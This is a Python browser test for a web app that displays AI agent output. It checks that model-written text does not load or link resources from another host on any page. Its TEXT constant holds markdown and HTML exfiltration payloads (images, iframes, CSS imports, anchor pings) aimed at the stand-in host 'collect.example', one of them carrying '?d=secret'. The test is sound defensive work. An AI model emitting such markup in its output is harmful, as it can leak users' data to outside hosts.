"""What a model writes loads nothing from anywhere else, on every page that shows it (S17)."""

from __future__ import annotations

import pytest
from playwright.async_api import expect

from tests.browser.tab import Tab
from tests.remote import Api

pytestmark = [pytest.mark.browser, pytest.mark.process, pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]

ELSEWHERE = "collect.example"
TEXT = (
    f"![chart](https://{ELSEWHERE}/a.png?d=secret) <img src='https://{ELSEWHERE}/b.png'> "
    f"<video poster=//{ELSEWHERE}/c.png></video> <link rel=prefetch href=https://{ELSEWHERE}/d> "
    f"<iframe src=https://{ELSEWHERE}/e></iframe> <style>@import 'https://{ELSEWHERE}/f';</style> "
    f"[read more](https://{ELSEWHERE}/g) https://{ELSEWHERE}/h <a ping=https://{ELSEWHERE}/i href=#x>x</a> "
    f"<svg><image href='https://{ELSEWHERE}/j'/></svg>"
)
#: anything of a page that has loaded, or would load with or without a click, something of another host
FOREIGN = (
    "[...document.querySelectorAll('*')].flatMap((node) => [...node.attributes])"
    f".filter((one) => one.value.includes('{ELSEWHERE}')"
    " && ['src','href','poster','srcset','action','ping','data','style','background','xlink:href'].includes(one.name))"
    ".map((one) => `${one.ownerElement.tagName} ${one.name}=${one.value}`)"
)


async def test_model_output_loads_and_links_nothing_elsewhere(tab: Tab, api: Api) -> None:
    await api.post("/api/conversations", {"conversation_id": "remote thread"}, expect=201)
    session = await api.start(
        "echo", task="t", config={"text": TEXT, "wait_for_input": True}, conversation_id="remote thread"
    )
    await api.becomes(session, "waiting")
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    for path, selector in {
        f"/sessions/{session}": "#step-0 .line",
        "/conversations/remote%20thread": ".message.from-agent .text",
        "/sessions": "[data-rows] .line",
        "/conversations": "[data-rows]",
    }.items():
        await tab.open(path)
        await expect(tab.find(selector).first).to_be_visible()
        assert await tab.page.evaluate(FOREIGN) == []
    assert asked
    assert [url for url in asked if ELSEWHERE in url] == []
    await api.post(f"/api/sessions/{session}/destroy")
